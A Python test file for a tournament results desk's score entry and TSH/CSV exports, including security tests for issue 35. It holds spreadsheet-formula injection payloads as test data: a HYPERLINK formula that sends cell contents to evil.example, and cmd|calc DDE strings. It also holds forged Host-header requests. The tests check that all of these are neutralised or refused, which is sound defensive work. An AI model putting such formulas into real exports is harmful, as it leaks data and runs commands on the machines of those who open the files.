"""The results desk and the exports a director enters into TSH (issue 27;
hall/tournament.py, `hall scores`, `hall results --tsh / --csv
[--excel]`): three rounds of tests/data/open2026.t (41 players, Polish and
German names, a bye each round), every game's result as the recorder files
it, each side's time penalty computed by the clock's core for the game's
profile (sdev: TSO § 5.2 b, 10 points per started minute of overtime), the
scores typed from the score sheets; the exported lines checked field by
field against the .t file."""
import csv
import io
import math
import os
import random
import subprocess
import sys

import pytest

from conftest import ROOT
from hallkit import hall_cmd
from hall import pairings
from host_sim import replay
from hall import tournament as T
from test_tournament import Hall, body, state

import profiles

OPEN = os.path.join(ROOT, "tests", "data", "open2026.t")
ROUNDS = (1, 2, 3)


def tsh_players():
    """[(number, name)] of the .t file as TSH numbers them: the player lines
    in order (read here without the hall's reader)."""
    out = []
    for ln in open(OPEN, encoding="utf-8"):
        if ln.strip() and not ln.startswith("#"):
            out.append((len(out) + 1, ln.split("  ")[0].strip()))
    return out


def tso_penalty(overtime_ms):
    """TSO § 5.2 b: 10 points for each started minute of the overtime the
    clock shows (whole seconds)."""
    return 10 * math.ceil((overtime_ms // 1000) / 60)


@pytest.fixture(scope="module")
def day(tmp_path_factory):
    """Three rounds played: every table's result, overtime at some, a
    forfeit in round 3 at table 4, the scores of every table but round 3's
    table 9 typed (table 2 of round 1 twice: a typing error corrected)."""
    folder = str(tmp_path_factory.mktemp("hall"))
    h = Hall(folder)
    rnd = random.Random(27)
    played = {}
    for n in ROUNDS:
        seat = pairings.read(OPEN, n)
        T.store_pairings(folder, seat, OPEN)
        T.set_round(folder, n)
        for p in seat.tables():
            clock = "c%02d" % p.table
            over = [0, 0]
            for s in (0, 1):
                if rnd.random() < 0.4:
                    over[s] = rnd.randint(1, 299) * 1000 + rnd.randint(0, 999)
            forfeit = None
            if n == 3 and p.table == 4:
                over[1], forfeit = 301000, "right"
            core = replay.new_clock(profiles.make_rules("sdev"))
            sides = []
            for s in (0, 1):
                core.rem[s] = -over[s] if over[s] else rnd.randint(1, 600) * 1000
                sides.append((core.rem[s] if not over[s] else 0, over[s], core.penalty(s)))
            game = n   # each clock's n-th game
            h.state(str(p.table), state(clock, p.table, game))
            h.result(str(p.table), body(clock, p.table, game, left=sides[0], right=sides[1],
                                        forfeit=forfeit))
            scores = (rnd.randint(250, 600), rnd.randint(250, 600))
            if (n, p.table) == (1, 2):
                T.set_scores(folder, 1, 2, 1, 1)        # mistyped, then corrected
            if (n, p.table) != (3, 9):
                T.set_scores(folder, n, p.table, *scores)
            played[(n, p.table)] = (p, over, scores)
    h.journal.close()
    return folder, played


def cmd(folder, *args):
    return hall_cmd(folder, *args, event="cup")


@pytest.mark.parametrize("n", ROUNDS)
def test_the_tsh_export_is_one_line_per_game_with_numbers_and_adjusted_scores(day, n):
    """`hall results --round N --tsh`: `a N open2026` (TSH's entry mode for
    the division), then per game `p1 s1 p2 s2` (TSH numbers, scores minus
    the penalty, the player who went first, left, first), the bye as
    `p 50`, an empty line; each field checked against the .t file and the
    score sheets.  A game without scores or lost by a forfeit is named on
    stderr, not exported."""
    folder, played = day
    proc = cmd(folder, "results", "--round", str(n), "--tsh")
    lines = proc.stdout.split("\n")
    assert lines[0] == "a %d open2026" % n
    assert lines[-2:] == ["", ""]                    # an empty line: back to tsh>
    names = dict(tsh_players())
    seat = pairings.read(OPEN, n)
    games = [ln for ln in lines[1:-2] if len(ln.split()) == 4]
    byes = [ln for ln in lines[1:-2] if len(ln.split()) == 2]
    assert len(games) + len(byes) == len(lines) - 3
    want = [t for t in sorted(seat.pairs) if (n, t) not in ((3, 9), (3, 4))]
    assert len(games) == len(want)
    for ln, t in zip(games, want):
        p, over, scores = played[(n, t)]
        f = [int(x) for x in ln.split()]
        assert (names[f[0]], names[f[2]]) == (p.left, p.right), ln
        assert f[1] == scores[0] - tso_penalty(over[0]), (ln, over)
        assert f[3] == scores[1] - tso_penalty(over[1]), (ln, over)
    assert [names[int(b.split()[0])] for b in byes] == seat.byes
    assert all(b.split()[1] == "50" for b in byes)
    if n == 3:
        err = proc.stderr.splitlines()
        assert proc.returncode == 1
        assert any("table 9" in e and "no scores typed" in e for e in err), err
        assert any("table 4" in e and "TSO § 5.2 c" in e for e in err), err
    else:
        assert proc.returncode == 0 and proc.stderr == ""


def test_the_csv_has_mmss_tsh_numbers_scores_penalties_byes_and_an_excel_form(day):
    """`hall results --round 1 --csv`: a row per game with both names, TSH
    numbers, the clock's mm:ss, scores, penalties and adjusted scores, and
    the bye's row; `--excel`: the same rows, UTF-8 with a byte-order mark,
    `;` between cells (Excel shows Żółć and Weiß right)."""
    folder, played = day
    names = dict(tsh_players())
    plain = cmd(folder, "results", "--round", "1", "--csv")
    assert plain.returncode == 0 and plain.stderr == ""
    rows = list(csv.DictReader(io.StringIO(plain.stdout)))
    seat = pairings.read(OPEN, 1)
    assert len(rows) == len(seat.pairs) + 1
    for r in rows[:-1]:
        p, over, scores = played[(1, int(r["table"]))]
        assert (names[int(r["left_tsh"])], names[int(r["right_tsh"])]) == (p.left, p.right)
        assert (r["left_player"], r["right_player"]) == (p.left, p.right)
        for s, k in ((0, "left"), (1, "right")):
            assert int(r[k + "_penalty"]) == tso_penalty(over[s])
            assert int(r[k + "_score"]) == scores[s]
            assert int(r[k + "_adjusted"]) == scores[s] - tso_penalty(over[s])
            if over[s]:
                sec = over[s] // 1000
                assert r[k + "_clock"] == "-%02d:%02d" % (sec // 60, sec % 60)
    bye = rows[-1]
    assert (bye["bye"], bye["left_player"], bye["table"]) == ("bye", seat.byes[0], "")
    assert names[int(bye["left_tsh"])] == seat.byes[0]
    raw = subprocess.run([sys.executable, "-m", "hall", "results", "--round", "1",
                          "--csv", "--excel", "--dir", folder], cwd=ROOT, capture_output=True,
                         timeout=60).stdout
    assert raw.startswith(b"\xef\xbb\xbfround;table;") and raw.count(b"\r\n") == len(rows) + 1
    got = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""),
                              delimiter=";"))
    assert got == rows


def test_the_desk_lists_scores_penalties_and_what_is_missing(day):
    """`hall scores --round 3`: each table's scores, penalties and adjusted
    scores; the table without scores and the forfeit are named."""
    folder, played = day
    proc = cmd(folder, "scores", "--round", "3")
    assert proc.returncode == 0
    out = proc.stdout.splitlines()
    p, over, scores = played[(3, 1)]
    line = [ln for ln in out if "  table 1  " in ln][0]
    for name, score, pen in ((p.left, scores[0], tso_penalty(over[0])),
                             (p.right, scores[1], tso_penalty(over[1]))):
        assert name in line
        assert ": %d%s = %d" % (score, " - %d" % pen if pen else "", score - pen) in line, line
    assert any("table 9" in ln and "no scores yet" in ln for ln in out)
    assert any("table 4" in ln and "FORFEIT right" in ln for ln in out)
    assert "table 9" in proc.stderr and "no scores typed yet" in proc.stderr


def test_typing_scores_stores_them_and_bad_ones_are_one_line(day, tmp_path):
    folder, played = day
    proc = cmd(folder, "scores", "--round", "3", "--table", "9", "412", "388")
    assert proc.returncode == 0, proc.stderr
    assert T.scores(folder, 3)[9] == (412, 388)
    p, over, _ = played[(3, 9)]
    assert "412" in proc.stdout and p.left in proc.stdout
    for args in (["--table", "9", "412"], ["--table", "9", "4x2", "388"],
                 ["412", "388"], ["--table", "1000", "1", "2"]):
        bad = cmd(folder, "scores", "--round", "3", *args)
        assert bad.returncode == 2 and bad.stderr.count("\n") == 1, (args, bad.stderr)
    assert cmd(folder, "scores", "--table", "9", "1", "2").returncode == 2   # no --round


def test_a_round_without_results_says_so(tmp_path):
    folder = str(tmp_path)
    T.store_pairings(folder, pairings.read(OPEN, 1), OPEN)
    open(os.path.join(folder, "results.jsonl"), "w").close()
    proc = cmd(folder, "results", "--round", "1", "--csv")
    assert proc.returncode == 0
    assert "table 1 (" in proc.stderr and "no result from its clock yet" in proc.stderr
    assert proc.stderr.strip().splitlines()[-1] == \
        "hall: round 1: no game has a result yet (0 games began in it)"


def test_the_desk_page_types_scores_and_gives_the_exports(day, tmp_path):
    """Issue 27 ("a results desk on the director's page"): in Chromium, the
    desk lists round 3's tables with both players, TSH numbers, clock
    times, penalties; typing table 9's scores and saving stores them and
    shows the adjusted scores; its TSH export is the command's; a POST
    without the page's token or with another Host is refused."""
    import json
    import shutil
    import tempfile
    import urllib.request
    from hall import desk as D
    from bench import browser
    if None in browser.browser_tools():
        pytest.skip("chromium / chromium-driver missing (make deps)")
    folder, played = day
    d = D.Desk(folder, 0).start()
    profile = tempfile.mkdtemp(prefix="desk-chromium-")
    drv = browser.headless_chromium(profile)
    try:
        from hallkit import until
        drv.get(d.url())          # the current round, 3
        until(lambda: drv.find_elements("css selector", '#rows tr[data-table="9"]'),
              lambda r: r, seconds=10)
        assert drv.find_element("id", "round").get_attribute("value") == "3"
        row9 = drv.find_element("css selector", '#rows tr[data-table="9"]')
        p, over, _ = played[(3, 9)]
        assert p.left in row9.text and p.right in row9.text
        left, right = row9.find_elements("css selector", "input.score")
        for inp, v in ((left, "433"), (right, "401")):
            inp.clear()
            inp.send_keys(v)
        row9.find_element("css selector", "button.save").click()
        # an earlier test of this module typed table 9's sheet (412): wait for
        # the saved sheet's answer, not for whatever the cell showed before
        want = str(433 - tso_penalty(over[0]))
        adj = until(lambda: drv.execute_script(
            "var c = document.querySelector('#rows tr[data-table=\"9\"] td.adj.left');"
            " return c ? c.textContent : '';"), lambda t: t.strip() == want, seconds=10)
        assert adj.strip() == want
        assert T.scores(folder, 3)[9] == (433, 401)
        tsh = urllib.request.urlopen(d.url() + "export?round=3&as=tsh").read().decode()
        assert tsh == cmd(folder, "results", "--round", "3", "--tsh").stdout
        for headers in ({}, {"X-Desk-Token": d.token, "Host": "evil.example:%d" % d.port}):
            bad = urllib.request.Request(d.url() + "scores", data=json.dumps(
                {"round": 3, "table": 9, "left": 1, "right": 1}).encode(), method="POST",
                headers=dict(headers, **{"Content-Type": "application/json"}))
            try:
                code = urllib.request.urlopen(bad).status
            except urllib.error.HTTPError as e:
                code = e.code
            assert code == 403, headers
        assert T.scores(folder, 3)[9] == (433, 401)
    finally:
        drv.quit()
        shutil.rmtree(profile, ignore_errors=True)
        d.stop()


# -- issue 35: the desk refuses what cannot be; TSH export that TSH reads right ------
def desk_request(d, method, path, body=None, headers=None, token=True):
    """(status, headers, body) of one request to the desk, as a browser makes it."""
    import http.client
    import json
    c = http.client.HTTPConnection("127.0.0.1", d.port, timeout=60)
    h = {"Content-Type": "application/json"}
    if token:
        h["X-Desk-Token"] = d.token
    h.update(headers or {})
    c.request(method, path, None if body is None else json.dumps(body).encode(), h)
    r = c.getresponse()
    out = (r.status, dict(r.getheaders()), r.read())
    c.close()
    return out


def plain(text):
    """A desk line without its names' isolates (tournament.isolated)."""
    return text.replace("\u2068", "").replace("\u2069", "")


def test_a_score_for_an_unseated_table_or_round_is_refused_with_its_reason(day):
    """Issue 35 ("the desk refuses what cannot be"): a score sheet belongs
    to a table of the round's seating; one for table 21 of a 20-table round,
    or for a round with no seating, is refused with the reason, at the desk
    (400, the reason) and by `hall scores` (one line, exit 2); nothing
    stored."""
    from hall import desk as D
    folder, _played = day
    before = open(os.path.join(folder, T.SCORES), "rb").read()
    proc = cmd(folder, "scores", "--round", "3", "--table", "21", "400", "300")
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1
    assert "round 3 has no table 21 in its seating (tables 1-20)" in proc.stderr, proc.stderr
    proc = cmd(folder, "scores", "--round", "7", "--table", "1", "400", "300")
    assert proc.returncode == 2 and "round 7 has no seating" in proc.stderr, proc.stderr
    d = D.Desk(folder, 0).start()
    try:
        for rnd, table, words in ((3, 21, "no table 21"), (7, 1, "round 7 has no seating"),
                                  (999, 5, "round 999 has no seating")):
            status, _h, body = desk_request(d, "POST", "/scores", {
                "round": rnd, "table": table, "left": 400, "right": 300})
            assert status == 400 and words in body.decode(), (rnd, table, body)
    finally:
        d.stop()
    assert open(os.path.join(folder, T.SCORES), "rb").read() == before


def test_the_desks_tsh_view_says_what_hall_results_tsh_says(day):
    """Issue 35: the desk dropped `hall results --tsh`'s warnings (a loss on
    time, a table without scores vanished there).  Its TSH view is the
    command's: the same block and the same lines, every round."""
    from hall import desk as D
    import json
    folder, _played = day
    d = D.Desk(folder, 0).start()
    try:
        for n in ROUNDS:
            proc = cmd(folder, "results", "--round", str(n), "--tsh")
            status, _h, body = desk_request(d, "GET", "/round?round=%d" % n)
            assert status == 200
            v = json.loads(body)["tsh"]
            assert "\n".join(v["lines"]) + "\n" == proc.stdout
            assert [plain(m) for m in v["messages"]] == [
                ln[len("hall: "):] for ln in proc.stderr.splitlines()]
            assert v["error"] == ""
            if n == 3:   # the forfeit of table 4 (TSO § 5.2 c) is said there too
                assert any("table 4" in m and "TSO § 5.2 c" in m for m in v["messages"])
    finally:
        d.stop()


def test_every_desk_answer_forbids_framing(day):
    """Issue 35: any site could frame the desk (and make the director click
    through an overlay): every answer says `frame-ancestors 'none'` and
    `X-Frame-Options: DENY`, refusals too."""
    from hall import desk as D
    folder, _played = day
    d = D.Desk(folder, 0).start()
    try:
        answers = [desk_request(d, "GET", p) for p in
                   ("/", "/round?round=1", "/export?round=1&as=csv", "/export?round=1&as=tsh",
                    "/nothing")]
        answers.append(desk_request(d, "POST", "/scores", {"round": 1}, token=False))
        answers.append(desk_request(d, "POST", "/scores", {"round": 1}))
        answers.append(desk_request(d, "GET", "/", headers={"Host": "evil.example"}))
        assert [a[0] for a in answers] == [200, 200, 200, 200, 404, 403, 400, 403]
        for status, headers, _b in answers:
            assert headers["Content-Security-Policy"] == "frame-ancestors 'none'", status
            assert headers["X-Frame-Options"] == "DENY", status
    finally:
        d.stop()


def test_a_room_of_desk_users_typing_at_once_all_get_answers(tmp_path):
    """Issue 35: 12 concurrent submissions sometimes got "connection
    reset" (the standard library's listen backlog of 5).  A burst of 40
    real HTTP submissions released together: every one answered 200, every
    score stored exactly once with its values."""
    import json
    import threading
    from hall import desk as D
    folder = str(tmp_path)
    for n in (1, 2):
        T.store_pairings(folder, pairings.read(OPEN, n), OPEN)
    jobs = [(n, t) for n in (1, 2) for t in sorted(pairings.read(OPEN, n).pairs)]
    assert len(jobs) == 40
    d = D.Desk(folder, 0).start()
    go = threading.Barrier(len(jobs))
    got = {}

    def submit(n, t):
        go.wait()
        try:
            got[(n, t)] = desk_request(d, "POST", "/scores", {
                "round": n, "table": t, "left": 300 + t, "right": 200 + n})[0]
        except OSError as e:
            got[(n, t)] = repr(e)
    threads = [threading.Thread(target=submit, args=j) for j in jobs]
    try:
        for th in threads:
            th.start()
        for th in threads:
            th.join(120)
    finally:
        d.stop()
    assert got == {j: 200 for j in jobs}
    lines = [json.loads(x) for x in open(os.path.join(folder, T.SCORES))]
    assert sorted((x["round"], x["table"], x["left"], x["right"]) for x in lines) == \
        sorted((n, t, 300 + t, 200 + n) for n, t in jobs)


def small_round(folder, t_text, name="div.t", scores=True):
    """A .t file's round 1 seated (as `hall pairings` stores it), a result
    at each of its tables and, if `scores`, each table's scores typed."""
    path = os.path.join(folder, name)
    with open(path, "w", encoding="utf-8") as f:
        f.write(t_text)
    seat = pairings.read(path, 1)
    T.store_pairings(folder, seat, path)
    h = Hall(folder)
    for p in seat.tables():
        h.state(str(p.table), state("c%d" % p.table, p.table, 1))
        h.result(str(p.table), body("c%d" % p.table, p.table, 1, left=(60000, 0, 0),
                                    right=(60000, 0, 0)))
        if scores:
            T.set_scores(folder, 1, p.table, 400 + p.table, 300)
    h.journal.close()
    return seat


FOUR = "Alpha A 1500 2\nBeta B 1400 1\nGamma C 1300 4\nDelta D 1200 3\n"


@pytest.mark.parametrize("file_name, given, want", [
    ("a.t", None, "a"),
    ("open2026.t", None, "open2026"),
    ("open a.t", "open_a", "open_a"),          # --division wins
    ("open a.t", None, None),                  # no plain word: one clear line
    ("dywizja-ż.t", None, None),
    ("a.t", "a b", None),                      # --division must be one word too
    ("a.t", "\uff41", None),                   # a fullwidth letter is no ASCII word
])
def test_the_division_is_one_word_tsh_takes_or_one_clear_line(tmp_path, file_name, given,
                                                              want):
    """Issue 35: TSH's entry line is `a ROUND DIVISION`, one word: a file
    named `open a.t` gave `a 1 open a`.  The division comes from --division
    or from the .t file's name when it is a plain word (ASCII letters,
    digits, _); otherwise `hall results --tsh` prints nothing on stdout and
    one line naming --division, and the desk's TSH view says the same."""
    from hall import desk as D
    folder = str(tmp_path)
    small_round(folder, FOUR, file_name)
    proc = cmd(folder, "results", "--round", "1", "--tsh",
               *(["--division", given] if given is not None else []))
    v = D.tsh_view(folder, 1, given)
    if want is None:
        assert proc.returncode == 2 and proc.stdout == "", proc.stdout
        assert proc.stderr.count("\n") == 1 and "--division" in proc.stderr, proc.stderr
        assert v["lines"] == [] and v["error"] == proc.stderr[len("hall: "):].strip()
        with pytest.raises(T.TournamentError):
            D.export(folder, 1, "tsh", given)
    else:
        assert proc.returncode == 0, proc.stderr
        assert proc.stdout.split("\n")[0] == "a 1 %s" % want
        assert v["lines"][0] == "a 1 %s" % want and v["error"] == ""


def test_a_withdrawn_player_is_never_exported_as_a_bye(tmp_path):
    """Issue 35 (TSH.md: a withdrawn player carries `off` and is no bye
    opponent): round 1's TSH entry has the real bye's line (`5 50`) and
    none for the withdrawn player 6."""
    folder = str(tmp_path)
    seat = small_round(folder, FOUR + "Epsilon E 1100 0\nZeta Z 1000 0; ; off -50\n")
    assert seat.byes == ["Epsilon E"]
    proc = cmd(folder, "results", "--round", "1", "--tsh")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split("\n") == ["a 1 div", "1 401 2 300", "3 402 4 300", "5 50", "", ""]


def test_a_round_without_scores_is_one_line_not_an_empty_entry(tmp_path):
    """Issue 35: a round with results but no score typed gave `a 1 div` and
    an empty line (an entry of nothing) plus a line per table: now nothing
    on stdout and one line; so for a round with no result at all."""
    folder = str(tmp_path)
    small_round(folder, FOUR, scores=False)
    proc = cmd(folder, "results", "--round", "1", "--tsh")
    assert (proc.returncode, proc.stdout) == (1, "")
    assert proc.stderr == ("hall: round 1: no scores typed for any of its games yet (2 with a "
                           "result): nothing to enter in TSH\n")
    from hall import desk as D
    assert D.tsh_view(folder, 1) == {"lines": [], "messages": [proc.stderr[6:-1]], "error": ""}


def test_two_results_at_one_table_are_no_tsh_line_but_a_refusal(tmp_path):
    """Issue 35: a table with two results (two clocks) printed two TSH lines
    and the desk said nothing; now neither is exported and one line says
    why, on the terminal and the desk."""
    from hall import desk as D
    folder = str(tmp_path)
    small_round(folder, FOUR)
    h = Hall(folder)
    h.state("9", state("intruder", 1, 1))            # a second clock at table 1
    h.result("9", body("intruder", 1, 1))
    h.journal.close()
    proc = cmd(folder, "results", "--round", "1", "--tsh")
    assert proc.returncode == 1
    assert proc.stdout.split("\n") == ["a 1 div", "3 402 4 300", "", ""]
    said = [ln for ln in proc.stderr.splitlines() if "table 1" in ln]
    assert len(said) == 1 and "2 results (clocks c1, intruder)" in said[0]
    assert "none goes to TSH until then" in said[0]
    assert any("2 results (clocks c1, intruder)" in m for m in D.tsh_view(folder, 1)["messages"])


@pytest.mark.parametrize("args", [
    ["scores", "--round", "3", "--table", "9", "\uff14\uff11\uff12", "388"],   # fullwidth 412
    ["scores", "--round", "3", "--table", "9", "\u0664\u0661\u0662", "388"],   # Arabic-Indic
    ["scores", "--round", "3", "--table", "\uff19", "412", "388"],
    ["scores", "--round", "\uff13", "--table", "9", "412", "388"],
    ["round", "\uff12"],
    ["results", "--round", "\uff13", "--tsh"],
])
def test_unicode_digits_are_never_a_table_a_round_or_a_score(day, args):
    """Issue 35: str.isdigit() and int() take fullwidth and other Unicode
    digits (`４１２` is 412 to int()): none is a table, a round or a score
    typed; each is one line, exit 2, nothing stored."""
    folder, _played = day
    before = open(os.path.join(folder, T.SCORES), "rb").read()
    rounds = open(os.path.join(folder, T.ROUNDS), "rb").read()
    proc = cmd(folder, *args)
    assert proc.returncode == 2 and proc.stderr.count("\n") <= 2, proc.stderr
    assert open(os.path.join(folder, T.SCORES), "rb").read() == before
    assert open(os.path.join(folder, T.ROUNDS), "rb").read() == rounds


def test_the_desk_takes_no_unicode_digit_for_a_round(day):
    """Issue 35: `round=３` (fullwidth) was round 3 to the desk's int()."""
    from hall import desk as D
    folder, _played = day
    d = D.Desk(folder, 0).start()
    try:
        from urllib.parse import quote
        assert desk_request(d, "GET", "/export?round=3&as=csv")[0] == 200
        assert desk_request(d, "GET", "/export?round=%s&as=csv" % quote("\uff13"))[0] == 404
    finally:
        d.stop()


# -- issue 35: names are data, not formulas (OWASP CSV injection) ----------------------
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
# (a formula without a control character: the protocol refuses a result whose
# free text holds a tab or a CR, firmware/hallproto.py is_text, issue 35)
HOSTILE_PROFILE = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(tmp_path):
    """Round 1 seated from a CSV whose names are formulas, a result whose
    profile (the clock's free text) is one, a score of -50 typed."""
    folder = str(tmp_path)
    p = tmp_path / "r1.csv"
    with open(p, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["table", "player1", "player2"])
        w.writerow([1, HOSTILE_NAMES[0], HOSTILE_NAMES[1]])
        w.writerow([2, HOSTILE_NAMES[2], HOSTILE_NAMES[3]])
    seat = pairings.read(str(p), 1)
    T.store_pairings(folder, seat, str(p))
    h = Hall(folder)
    for t in (1, 2):
        b = body("c%d" % t, t, 1, left=(60000, 0, 0), right=(0, 301000, 60))
        b["profile"] = HOSTILE_PROFILE
        h.state(str(t), state("c%d" % t, t, 1))
        h.result(str(t), b)
    h.journal.close()
    T.set_scores(folder, 1, 1, -50, 412)
    T.set_scores(folder, 1, 2, 300, 250)
    return folder


def test_the_csv_neutralizes_formulas_and_keeps_numbers_numeric(hostile):
    """Issue 35, OWASP's CSV injection guidance: a text cell beginning with
    `=`, `+`, `-`, `@`, a tab or a CR is written with a leading `'` (and
    quoted), in the plain CSV, its Excel form (`hall results --excel`) and
    the desk's exports; the names and the profile read back whole after
    the `'`.  Numbers stay bare numbers: a score of -50, the adjusted -50,
    the overtime -301000; the clock's mm:ss -05:01 is no formula and stays."""
    from hall import desk as D
    folder = hostile
    plain_csv = cmd(folder, "results", "--round", "1", "--csv")
    assert plain_csv.returncode == 0, plain_csv.stderr
    excel = subprocess.run([sys.executable, "-m", "hall", "results", "--round",
                            "1", "--csv", "--excel", "--dir", folder], cwd=ROOT,
                           capture_output=True, timeout=60).stdout
    desk_csv = D.export(folder, 1, "csv")[0].decode("utf-8")
    desk_excel = D.export(folder, 1, "excel")[0]
    assert desk_csv == plain_csv.stdout and desk_excel == excel
    for raw, sep in ((plain_csv.stdout.encode("utf-8"), b","), (excel, b";")):
        for name in HOSTILE_NAMES + [HOSTILE_PROFILE]:
            cell = b'"\'' + name.encode("utf-8").replace(b'"', b'""') + b'"'
            assert cell in raw, (name, raw[:400])
            assert (sep + name.encode("utf-8")) not in raw.replace(cell, b"")
        # every cell of a data row: a bare number, or quoted text that is no formula
        text = raw.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep.decode()))
        for row in rows[1:]:
            for c in row:
                assert not c.startswith(("=", "+", "@", "\t", "\r")), c
                assert not c.startswith("-") or c.lstrip("-").replace(":", "").isdigit(), c
        line = [ln for ln in text.splitlines() if ln.startswith("1" + sep.decode())][0]
        for number in (",-50,412,0,60,-50,352,", ",-301000,"):   # 412 - 60 pts = 352
            number = number.replace(",", sep.decode())
            assert number in line, (number, line)
        assert '"-05:01"' in line

